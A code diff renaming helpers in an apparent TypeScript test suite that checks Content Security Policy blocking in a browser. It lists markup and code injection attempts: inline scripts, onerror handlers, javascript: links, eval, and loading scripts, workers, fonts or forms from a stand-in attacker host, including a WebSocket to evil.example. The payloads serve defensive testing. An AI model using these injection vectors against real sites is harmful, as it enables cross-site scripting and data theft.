@@ -17,46 +17,50 @@ interface Violation {
 
 type Attempt = Violation & { name: string }
 
-const attempt = (name: string, directive: string, blocked: string): Attempt => ({ name, directive, blocked })
+const createAttempt = (name: string, directive: string, blocked: string): Attempt => ({ name, directive, blocked })
 
 const MARKUP_ATTEMPTS: readonly Attempt[] = [
-  attempt(`<script>ran.push('script')</script>`, 'script-src-elem', 'inline'),
-  attempt(`<img src="/gone.png" onerror="ran.push('handler')">`, 'script-src-attr', 'inline'),
-  attempt(`<script src="${EVIL}/a.js"></script>`, 'script-src-elem', `${EVIL}/a.js`),
-  attempt(`<script src="data:text/javascript,ran.push('data')"></script>`, 'script-src-elem', 'data'),
-  attempt(`<style>body { --evil: 1 }</style>`, 'style-src-elem', 'inline'),
-  attempt(`<p style="--evil: 1">styled</p>`, 'style-src-attr', 'inline'),
-  attempt(`<link rel="stylesheet" href="${EVIL}/a.css">`, 'style-src-elem', `${EVIL}/a.css`),
-  attempt(`<object data="${EVIL}/o.svg"></object>`, 'object-src', EVIL),
-  attempt(`<base href="${EVIL}/">`, 'base-uri', `${EVIL}/`),
-  attempt(`<iframe src="data:text/html,<script>top.ran.push(1)</script>"></iframe>`, 'frame-src', ''),
-  attempt(`<img src="http://evil.example/i.png">`, 'img-src', 'http://evil.example/i.png'),
+  createAttempt(`<script>ran.push('script')</script>`, 'script-src-elem', 'inline'),
+  createAttempt(`<img src="/gone.png" onerror="ran.push('handler')">`, 'script-src-attr', 'inline'),
+  createAttempt(`<script src="${EVIL}/a.js"></script>`, 'script-src-elem', `${EVIL}/a.js`),
+  createAttempt(`<script src="data:text/javascript,ran.push('data')"></script>`, 'script-src-elem', 'data'),
+  createAttempt(`<style>body { --evil: 1 }</style>`, 'style-src-elem', 'inline'),
+  createAttempt(`<p style="--evil: 1">styled</p>`, 'style-src-attr', 'inline'),
+  createAttempt(`<link rel="stylesheet" href="${EVIL}/a.css">`, 'style-src-elem', `${EVIL}/a.css`),
+  createAttempt(`<object data="${EVIL}/o.svg"></object>`, 'object-src', EVIL),
+  createAttempt(`<base href="${EVIL}/">`, 'base-uri', `${EVIL}/`),
+  createAttempt(`<iframe src="data:text/html,<script>top.ran.push(1)</script>"></iframe>`, 'frame-src', ''),
+  createAttempt(`<img src="http://evil.example/i.png">`, 'img-src', 'http://evil.example/i.png'),
 ]
 
 /**
  * Passes a string to a function that requires a trusted value. Browsers decide which functions
  * require one, so only a few are tried.
  */
-const untrustedAttempt = (code: string) => attempt(code, 'require-trusted-types-for', 'trusted-types-sink')
+const createUntrustedAttempt = (code: string) => createAttempt(code, 'require-trusted-types-for', 'trusted-types-sink')
 
 /** Attempts of injected code that already runs. Each `name` is the code of the attempt. */
 const CODE_ATTEMPTS: readonly Attempt[] = [
-  attempt(`new WebSocket('wss://evil.example/socket')`, 'connect-src', 'wss://evil.example/socket'),
-  attempt(`new Image().src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='`, 'img-src', 'data'),
-  attempt(`new FontFace('x', 'url(${EVIL}/f.woff2)').load().catch(() => 0)`, 'font-src', `${EVIL}/f.woff2`),
-  attempt(`new Worker(URL.createObjectURL(new Blob(['ran.push(1)'])))`, 'worker-src', 'blob'),
-  attempt(`import('${EVIL}/m.js').catch(() => 0)`, 'script-src-elem', `${EVIL}/m.js`),
-  attempt(
+  createAttempt(`new WebSocket('wss://evil.example/socket')`, 'connect-src', 'wss://evil.example/socket'),
+  createAttempt(`new Image().src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='`, 'img-src', 'data'),
+  createAttempt(`new FontFace('x', 'url(${EVIL}/f.woff2)').load().catch(() => 0)`, 'font-src', `${EVIL}/f.woff2`),
+  createAttempt(`new Worker(URL.createObjectURL(new Blob(['ran.push(1)'])))`, 'worker-src', 'blob'),
+  createAttempt(`import('${EVIL}/m.js').catch(() => 0)`, 'script-src-elem', `${EVIL}/m.js`),
+  createAttempt(
     `Object.assign(make('form'), { action: '${EVIL}/form', method: 'post' }).submit()`,
     'form-action',
     `${EVIL}/form`,
   ),
-  attempt(`trustedTypes.createPolicy('mine', {})`, 'trusted-types', 'trusted-types-policy'),
-  untrustedAttempt(`make('div').innerHTML = '<b>x</b>'`),
-  untrustedAttempt(`eval('ran.push("eval")')`),
-  untrustedAttempt(`make('script').src = '${EVIL}/s.js'`),
-  untrustedAttempt(`new Worker('${EVIL}/w.js')`),
-  attempt(`Object.assign(make('a'), { href: 'javascript:ran.push("link")' }).click()`, 'script-src-elem', 'inline'),
+  createAttempt(`trustedTypes.createPolicy('mine', {})`, 'trusted-types', 'trusted-types-policy'),
+  createUntrustedAttempt(`make('div').innerHTML = '<b>x</b>'`),
+  createUntrustedAttempt(`eval('ran.push("eval")')`),
+  createUntrustedAttempt(`make('script').src = '${EVIL}/s.js'`),
+  createUntrustedAttempt(`new Worker('${EVIL}/w.js')`),
+  createAttempt(
+    `Object.assign(make('a'), { href: 'javascript:ran.push("link")' }).click()`,
+    'script-src-elem',
+    'inline',
+  ),
 ]
 
 declare global {
